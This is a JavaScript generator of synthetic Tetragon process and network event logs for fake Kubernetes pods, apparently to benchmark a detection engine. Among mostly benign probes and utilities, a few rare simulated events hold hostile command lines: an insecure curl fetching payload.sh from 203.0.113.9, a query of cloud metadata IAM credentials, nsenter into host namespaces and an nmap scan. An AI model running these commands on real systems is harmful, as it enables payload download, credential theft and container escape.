// Generates Tetragon exports as hard for the engine as real ones (deterministic for a count and a seed):
// - every process_exec has its process_exit a few lines later (same binary, same arguments, same parent);
// - kprobe events (file access through security_file_permission, tcp_connect) and process_connect events;
// - the seed detection's literal `curl` in a fifth to a quarter of the lines, as in real clusters: exec
//   probes `sh -c "curl -sf http://localhost:8080/healthz"` (the shell, its curl child with the shell as
//   parent, the child's connect, tcp_connect and exit, the shell's exit), readiness probes that run a second
//   command after curl (whose parent's arguments mention curl), scripts that fetch with curl;
// - while fewer than 0.1% of the lines are a curl with TLS verification off (`-k`, `--insecure`), and a few
//   events for the rest of the pack (cron, nsenter, nmap, the cloud metadata address, shells).
// Lines are ~1.1-1.9 KB (pod metadata, parents), in time order over one hour.
import { createWriteStream, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { containerIdFor, processConnect, processExec, processExit, processKprobe, rfc3339, rng } from '../scripts/tetragon-factory.mjs';

const NAMESPACES = ['shop', 'payments', 'monitoring', 'ci', 'data', 'default'];
const IMAGES = ['docker.io/acme/frontend:1.4.2', 'docker.io/library/ubuntu:22.04', 'docker.io/grafana/grafana:12.0.1', 'quay.io/isovalent/tetragon-ci:v1.2.0', 'docker.io/acme/etl:0.9.1', 'docker.io/library/nginx:1.27'];
const SHIM = '/usr/bin/containerd-shim-runc-v2';
const APPS = [
  ['/usr/local/bin/node', 'server.js --port 8080 --log-level info'],
  ['/usr/bin/java', '-Xmx512m -jar /app/payments.jar --spring.profiles.active=prod'],
  ['/usr/bin/python3', '/app/worker.py --queue orders --concurrency 4'],
  ['/usr/sbin/nginx', '-g "daemon off;"'],
];
const UTILS = [
  ['/bin/cat', '/proc/self/status'],
  ['/bin/ls', '-la /var/lib/app/cache'],
  ['/usr/bin/find', '/tmp -mtime +7 -delete'],
  ['/bin/date', '+%s'],
  ['/usr/bin/awk', "-F: '{print $1}' /etc/passwd"],
  ['/bin/grep', '-c ERROR /var/log/app/app.log'],
  ['/bin/sleep', '5'],
  ['/bin/tar', 'czf /backup/data.tgz /var/lib/data'],
];
const FILES = ['/etc/passwd', '/app/config.json', '/var/lib/app/cache/index.db', '/etc/ssl/certs/ca-certificates.crt', '/proc/self/status'];
const SERVICES = [['10.96.12.40', 5432], ['10.96.3.17', 6379], ['10.96.0.10', 53], ['10.96.44.2', 8080], ['172.20.8.9', 443]];

/**
 * Activities and their weights: each is a process tree with its kprobe/connect events. The weights put
 * `curl` in ~22% of the lines and a curl with TLS verification off in fewer than 0.1%.
 */
const ACTIVITIES = [
  [230, 'app'],
  [420, 'util'],
  [100, 'healthProbe'],
  [30, 'readinessProbe'],
  [15, 'fetchScript'],
  [150, 'grpcProbe'],
  [1.5, 'curlInsecure'],
  [0.4, 'metadata'],
  [0.3, 'cron'],
  [0.2, 'nsenter'],
  [0.2, 'nmap'],
  [2, 'shell'],
];

/** Tetragon events of one hour from `t0`, `count` lines, in time order: [object, line text] pairs. */
export function* tetragonEvents(count, { seed = 1, t0 = 1795168800, span = 3600 } = {}) {
  const r = rng(seed);
  const pick = (xs) => xs[Math.floor(r() * xs.length)];
  const total = ACTIVITIES.reduce((s, a) => s + a[0], 0);
  const pods = Array.from({ length: 48 }, (_, i) => {
    const ns = NAMESPACES[i % NAMESPACES.length];
    const name = `${ns}-svc-${(i * 7919).toString(36)}-${(i * 104729).toString(36).slice(0, 5)}`;
    return {
      name,
      namespace: ns,
      image: IMAGES[i % IMAGES.length],
      containerId: containerIdFor(name),
      containerName: `${ns}-svc`,
      containerStart: rfc3339(t0 - 3600 + i * 61.25),
      workload: `${ns}-svc`,
      workloadKind: 'Deployment',
      ip: `10.0.${1 + (i % 3)}.${20 + i}`,
    };
  });
  let line = 0;
  let pid = 100000;
  // Exits wait here until their line: [due line, event maker].
  const pending = [];
  const timeOf = (n) => t0 + (n * span) / count;
  function* out(make) {
    if (line >= count) return;
    const ev = make(timeOf(line));
    line++;
    yield ev;
  }
  function* flushExits() {
    pending.sort((a, b) => a[0] - b[0]);
    while (pending.length && pending[0][0] <= line && line < count) yield* out(pending.shift()[1]);
  }
  const node = (p) => `ip-10-0-${1 + (p % 3)}-${17 + (p % 5)}.eu-west-1.compute.internal`;
  /** A process: its exec now, its exit `after` lines later. Returns its description for children and kprobes. */
  function* proc(pod, binary, args, parent, after) {
    const me = { binary, args, pid: pid++, uid: r() < 0.8 ? 0 : 1000, cwd: '/app', pod, node: parent.node, parent };
    yield* out((time) => {
      me.start = time - 0.0002;
      return processExec({ time, node: me.node, cluster: 'prod-eu-1', process: me, parent });
    });
    pending.push([line + after, (time) => processExit({ time, node: me.node, cluster: 'prod-eu-1', process: me, parent, status: 0 })]);
    return me;
  }
  const shim = (pod, p) => ({ binary: SHIM, args: `-namespace k8s.io -id ${pod.containerId.slice(0, 24)}`, pid: p - 7, start: t0 - 1800, pod: null, cwd: '/', node: node(p) });
  const parentOf = (me) => ({ binary: me.binary, args: me.args, pid: me.pid, start: me.start, pod: me.pod, cwd: me.cwd, node: me.node });
  const kprobeOf = (me, kprobe) => out((time) => processKprobe({ time, node: me.node, cluster: 'prod-eu-1', process: me, parent: me.parent, kprobe }));
  function* kprobeFile(me, path) {
    yield* kprobeOf(me, { function_name: 'security_file_permission', args: [{ file_arg: { path, permission: '-rw-r--r--' } }, { int_arg: 4 }], return: { int_arg: 0 }, policy_name: 'file-monitoring' });
  }
  function* connect(me, ip, port) {
    const sport = 30000 + (me.pid % 30000);
    yield* kprobeOf(me, {
      function_name: 'tcp_connect',
      args: [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: me.pod.ip, daddr: ip, sport, dport: port, cookie: String(18446635000000000000n + BigInt(me.pid)), state: 'TCP_SYN_SENT' } }],
      policy_name: 'monitor-network-activity',
    });
    yield* out((time) =>
      processConnect({ time, node: me.node, cluster: 'prod-eu-1', process: me, parent: me.parent, socket: { source_ip: me.pod.ip, source_port: sport, destination_ip: ip, destination_port: port, protocol: 'TCP' } }),
    );
  }
  /** `sh -c "<script>"` started by the container runtime (exec probes, cron jobs, kubectl exec). */
  function* shell(pod, script, after) {
    const p = pid;
    return yield* proc(pod, '/bin/sh', `-c "${script}"`, shim(pod, p), after);
  }
  const ACTIONS = {
    *app(pod) {
      const [bin, args] = pick(APPS);
      const me = yield* proc(pod, bin, args, shim(pod, pid), 5 + Math.floor(r() * 40));
      yield* kprobeFile(me, pick(FILES));
      const [ip, port] = pick(SERVICES);
      yield* connect(me, ip, port);
    },
    *util(pod) {
      const parent = yield* shell(pod, pick(['/app/entrypoint.sh', 'tar czf /backup/data.tgz /var/lib/data', '/opt/scripts/rotate-logs.sh']), 6);
      const [bin, args] = pick(UTILS);
      const me = yield* proc(pod, bin, args, parentOf(parent), 1 + Math.floor(r() * 4));
      if (r() < 0.4) yield* kprobeFile(me, pick(FILES));
    },
    *healthProbe(pod) {
      const url = `http://localhost:${pick([8080, 8081, 9090])}/healthz`;
      const sh = yield* shell(pod, `curl -sf ${url} || exit 1`, 5);
      const curl = yield* proc(pod, '/usr/bin/curl', `-sf ${url}`, parentOf(sh), 2);
      yield* connect(curl, '127.0.0.1', 8080);
    },
    *readinessProbe(pod) {
      const sh = yield* shell(pod, 'curl -sSf http://localhost:8080/ready && touch /tmp/ready', 7);
      const curl = yield* proc(pod, '/usr/bin/curl', '-sSf http://localhost:8080/ready', parentOf(sh), 2);
      yield* connect(curl, '127.0.0.1', 8080);
      yield* proc(pod, '/usr/bin/touch', '/tmp/ready', parentOf(sh), 1);
    },
    *fetchScript(pod) {
      const sh = yield* proc(pod, '/bin/bash', '/opt/scripts/sync-assets.sh --fetch-with curl --retries 3', shim(pod, pid), 8);
      const curl = yield* proc(pod, '/usr/bin/curl', '-fsSL -o /tmp/assets.tgz https://cdn.acme.example/assets/latest.tgz', parentOf(sh), 3);
      yield* connect(curl, '172.20.8.9', 443);
      yield* proc(pod, '/bin/tar', 'xzf /tmp/assets.tgz -C /var/www', parentOf(sh), 2);
    },
    *grpcProbe(pod) {
      yield* proc(pod, '/bin/grpc_health_probe', '-addr=:9000 -connect-timeout 2s', shim(pod, pid), 1);
    },
    *curlInsecure(pod) {
      const sh = yield* shell(pod, pick(['/opt/debug/check-tls.sh', 'id; uname -a']), 4);
      const curl = yield* proc(pod, '/usr/bin/curl', pick(['-sSLk https://203.0.113.9/payload.sh -o /tmp/x.sh', '--insecure https://internal-api.shop.svc.cluster.local/health', '-k -s https://10.0.3.4:8443/metrics']), parentOf(sh), 2);
      yield* connect(curl, '203.0.113.9', 443);
    },
    *metadata(pod) {
      const curl = yield* proc(pod, '/usr/bin/curl', '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/', shim(pod, pid), 2);
      yield* connect(curl, '169.254.169.254', 80);
    },
    *cron(pod) {
      yield* proc(pod, '/usr/bin/crontab', '-l', shim(pod, pid), 1);
    },
    *nsenter(pod) {
      const sh = yield* proc(pod, '/bin/bash', '-i', shim(pod, pid), 6);
      yield* proc(pod, '/usr/bin/nsenter', '-t 1 -m -u -n -i -p bash', parentOf(sh), 2);
    },
    *nmap(pod) {
      yield* proc(pod, '/usr/bin/nmap', '-sS -p 1-1024 10.0.0.0/24', shim(pod, pid), 3);
    },
    *shell(pod) {
      yield* proc(pod, '/bin/bash', '-l', shim(pod, pid), 10);
    },
  };
  while (line < count) {
    let x = r() * total;
    let act = ACTIVITIES[0][1];
    for (const [w, name] of ACTIVITIES) {
      x -= w;
      if (x <= 0) {
        act = name;
        break;
      }
    }
    yield* ACTIONS[act](pick(pods));
    yield* flushExits();
  }
}

/**
 * Writes `count` lines to `file` (kept when it already holds them: generating is slower than the
 * benchmarks) and returns what they hold: lines by kind, and the share that contain `curl`.
 * `execOnly`: only the process_exec events of the same hour (an export filtered to one kind, as the
 * issue's hidden data is: every line then goes through every search of the pack).
 */
export async function generate(file, count, seed = 1, { execOnly = false } = {}) {
  const meta = `${file}.meta.json`;
  if (existsSync(file) && existsSync(meta)) {
    const m = JSON.parse(readFileSync(meta, 'utf8'));
    if (m.count === count && m.seed === seed && (m.execOnly ?? false) === execOnly && m.bytes === statSync(file).size) return m;
  }
  mkdirSync(dirname(file), { recursive: true });
  const out = createWriteStream(file);
  const kinds = {};
  let curl = 0;
  let bytes = 0;
  let chunk = '';
  let lines = 0;
  // Execs are ~37% of the mixed lines: an hour of 3x the count holds enough of them.
  for (const ev of tetragonEvents(execOnly ? count * 3 : count, { seed })) {
    const kind = Object.keys(ev)[0];
    if (execOnly && kind !== 'process_exec') continue;
    if (lines++ === count) break;
    const text = JSON.stringify(ev) + '\n';
    kinds[kind] = (kinds[kind] ?? 0) + 1;
    if (text.includes('curl')) curl++;
    bytes += Buffer.byteLength(text);
    chunk += text;
    if (chunk.length > 1 << 20) {
      if (!out.write(chunk)) await new Promise((res) => out.once('drain', res));
      chunk = '';
    }
  }
  await new Promise((res, rej) => out.end(chunk, (e) => (e ? rej(e) : res())));
  if (lines < count) throw new Error(`only ${lines} lines of the kind asked for`);
  const m = { count, seed, execOnly, bytes, kinds, curlLines: curl };
  writeFileSync(meta, JSON.stringify(m));
  return m;
}

/** The lines of a generated file in arrays of `size` (streamed: a file of 1M lines is over V8's longest string). */
export async function* lineBatches(file, size) {
  const { createReadStream } = await import('node:fs');
  let rest = '';
  let batch = [];
  for await (const chunk of createReadStream(file, { encoding: 'utf8', highWaterMark: 1 << 20 })) {
    const lines = (rest + chunk).split('\n');
    rest = lines.pop();
    for (const line of lines) {
      if (line === '') continue;
      batch.push(line);
      if (batch.length === size) {
        yield batch;
        batch = [];
      }
    }
  }
  if (rest !== '') batch.push(rest);
  if (batch.length > 0) yield batch;
}

/**
 * Appends the lines of `file` to each of `stores`, made into events as HEC /raw makes them (`parseRawBatch` of
 * src/hec/events: sourcetype routing, `_time` from `time`, host), 5000 lines a batch, at most `inFlight` appends
 * waiting; resolves with how many events each store got.
 */
export async function appendAsHecRaw(file, parseRawBatch, stores, inFlight) {
  const ctx = { token: { name: 'bench', token: 'x', defaultIndex: 'main', indexes: [], disabled: false, useAck: false }, now: 0, defaultHost: 'bench', maxJsonDepth: 16_384 };
  let pending = [];
  let loaded = 0;
  for await (const lines of lineBatches(file, 5000)) {
    const events = parseRawBatch(lines.join('\n'), { sourcetype: 'cisco:isovalent', source: 'bench' }, ctx).map(({ json: _, ...e }) => e);
    loaded += events.length;
    pending.push(...stores.map((s) => s.append(events)));
    if (pending.length >= inFlight) {
      await Promise.all(pending);
      pending = [];
    }
  }
  await Promise.all(pending);
  return loaded;
}
